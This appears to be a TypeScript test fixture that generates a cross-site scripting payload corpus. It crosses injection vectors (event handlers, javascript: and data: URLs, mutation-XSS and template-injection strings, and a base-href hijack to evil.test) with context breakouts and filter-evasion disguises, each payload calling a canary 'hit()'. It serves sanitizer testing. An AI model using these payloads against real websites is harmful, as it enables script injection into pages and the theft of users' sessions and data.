/** Texts that become code wherever a page takes text for markup: known vectors times places times disguises. */

/** What each of them tries to call. */
export const CANARY = 'hit'

type Vector = (act: string) => string

/** Run by themselves in a page that is careless. */
const LIVE: ReadonlyArray<Vector> = [
  (act) => `<img src onerror=${act}>`,
  (act) => `<img src=1 onerror="${act}">`,
  (act) => `<svg onload=${act}>`,
  (act) => `<svg/onload=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<script>${act}</script>`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<video src onerror=${act}>`,
  (act) => `<audio src onerror=${act}>`,
  (act) => `<video><source onerror=${act}>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<iframe onload=${act}>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>">`,
  (act) => `<iframe src="javascript:parent.${act}">`,
  (act) => `<object data="javascript:${act}">`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<style onload=${act}></style>`,
  (act) => `<link rel=stylesheet href=data:, onerror=${act}>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x>`,
  (act) => `<noscript><p title="</noscript><img src onerror=${act}>">`,
  (act) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=${act}>">`,
  (act) => `<template><img src onerror=${act}></template>`,
]

/** Wait for a click, another parser or a second decoding. */
const PATIENT: ReadonlyArray<Vector> = [
  (act) => `<a href=javascript:${act}>a</a>`,
  (act) => `<form action=javascript:${act}><button>b`,
  (act) => `<base href=//evil.test/>`.concat(act),
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `javascript:${act}`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `vbscript:${act}`,
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => '${'.concat(act, '}'),
  (act) => `&lt;img src onerror=${act}&gt;`,
  (act) => `%3Cimg%20src%20onerror=${act}%3E`,
  (act) => `\\u003cimg src onerror=${act}\\u003e`,
  (act) => `__proto__[onerror]=${act}`,
  (act) => `"onmouseover=${act} x="`,
]

/** Out of where a text usually stands. */
const PLACES: ReadonlyArray<(payload: string) => string> = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title>${payload}`,
  (payload) => `--></script>${payload}`,
  (payload) => `</textarea></style>${payload}`,
]

/** The same to a browser, another text to a filter. */
const DISGUISES: ReadonlyArray<(payload: string) => string> = [
  (payload) => payload,
  (payload) => payload.replaceAll(/<([a-z]+)/g, (_, tag: string) => `<${tag.charAt(0).toUpperCase()}${tag.slice(1)}`),
  (payload) => payload.replaceAll(' ', '\n'),
  (payload) => payload.replaceAll('javascript:', 'java\tscript:'),
]

const act = `${CANARY}()`

const crossed = (vectors: ReadonlyArray<Vector>): ReadonlyArray<string> => [
  ...new Set(
    vectors.flatMap((vector) => PLACES.flatMap((place) => DISGUISES.map((disguise) => disguise(place(vector(act)))))),
  ),
]

export const LIVE_PAYLOADS = crossed(LIVE)
export const PAYLOADS = [...LIVE_PAYLOADS, ...crossed(PATIENT)]
